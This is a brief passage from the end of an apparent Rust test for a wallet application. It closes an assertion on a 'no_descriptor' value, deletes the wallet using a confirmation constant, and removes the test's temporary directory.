        "no_descriptor"
    );
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
    let _ = std::fs::remove_dir_all(dir);
}
